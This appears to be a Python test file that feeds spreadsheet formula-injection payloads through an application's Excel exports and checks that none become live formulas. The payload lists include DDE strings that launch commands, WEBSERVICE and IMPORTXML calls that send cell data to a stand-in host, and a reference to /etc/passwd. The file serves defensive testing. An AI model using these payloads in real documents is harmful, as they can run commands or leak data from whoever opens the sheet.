"""Texts that a spreadsheet would calculate, through all that the program writes for spreadsheets: none becomes a formula."""

from __future__ import annotations

import io
from collections.abc import Iterator
from itertools import islice, product
from pathlib import Path

import openpyxl
import pytest

from app.core import database as store
from app.core.progress import Progress
from app.models.listing import LISTINGS, Query
from app.reports import consolidated, sheets, table_workbook, workbook
from app.services import figures_content, merging, periods
from tests.branch import new_branch
from tests.faults.trial import Trial, Tried
from tests.make import Make

_SIGNS = ("=", "+", "-", "@", "=+", "-@", "＝", " =", "'=", "\t=", "%=", ";=")
_BODIES = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test","看")', "IMPORTXML(\"http://x.test\",\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "WEBSERVICE(\"http://x.test/\"&A1)", "A1", "2+5+cmd|' /C calc'!A0", "'file:///etc/passwd'#$x.A1",
)  # fmt: skip


def payloads(count: int) -> list[str]:
    """So many, each another."""
    return list(islice((f"{sign}{body}" for body, sign in product(_BODIES, _SIGNS)), count))


def written(folder: Path, times: int, *, merged: bool = True) -> Tried:
    """Into names, descriptions and notes; out as lists, as the month's workbook, as rejected rows and as the merged workbook."""
    session = new_branch(folder / "data")
    make, texts = Make(session), payloads(times)
    for place, text in enumerate(texts):
        customer = make.customer(name=text, phone=f"1380000{place:04}", background=text, tags=[text.strip()[:20]])
        make.steps(make.complaint(customer=customer.number, description=text, complainant=text), "sign")
        make.steps(make.objection(customer=customer.number, what=text), ("close", {"solved_on_spot": True, "result": text}))
    wrong, cells = [], 0
    for name, content in _books(folder, make, texts, merged):
        found = list(_judged(name, content, set(texts)))
        wrong += [one for one in found if one]
        cells += len(found)
    store.close()
    return Tried(len(texts), tuple(wrong), f"{cells:,} cells that hold one; the program writes no csv")


def _books(folder: Path, make: Make, texts: list[str], merged: bool) -> Iterator[tuple[str, bytes]]:
    session = make.session
    for kind in ("customers", "complaints", "objections"):
        path, listing = folder / f"{kind}.xlsx", LISTINGS[kind]
        table_workbook.export(session, path, kind, listing, Query(), [one.code for one in listing.fields()], Progress())
        yield path.name, path.read_bytes()
    period = periods.read("2026-11", session.now().date())
    month = workbook.render(figures_content.gather(session, period))
    yield "month's workbook", month
    (folder / "month.xlsx").write_bytes(month)
    if merged:
        with merging.gather([folder / "month.xlsx"]) as together:
            yield "merged workbook", consolidated.render(together, "", session.now().date(), Progress())
    yield "rejected rows", table_workbook.rejects(texts, [(texts, text) for text in texts])


def _judged(name: str, content: bytes, texts: set[str]) -> Iterator[str]:
    """Of each cell that holds a payload what is wrong with it, empty for nothing."""
    plain = {sheets.safe(text) for text in texts} | {sheets.safe(text.strip()) for text in texts}
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for cell in (cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)):
            where = f"{name}, {sheet.title} {cell.coordinate}: {cell.value!r}"
            if cell.data_type == "f":
                yield f"{where} is a formula" if cell.value in plain else ""
            elif cell.value in plain:
                signed = cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                yield f"{where} would become one when it is edited" if signed and not cell.quotePrefix else ""


def guessed(folder: Path, times: int) -> Tried:
    """The control: openpyxl is left to guess."""

    def put(cell: object, value: object, formula: bool = False) -> None:
        cell.value = value  # type: ignore[attr-defined]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sheets._prepared(), "put", put)
        return written(folder, times, merged=False)  # merging refuses such a workbook


TRIALS = (
    Trial(
        "formulas",
        "payloads in names, notes, cases and tags; out by the export of lists, the month's workbook, the merged one and "
        "rejected rows",
        written, 100, 12,
        "cells without the guard", guessed, 12,
    ),
)  # fmt: skip
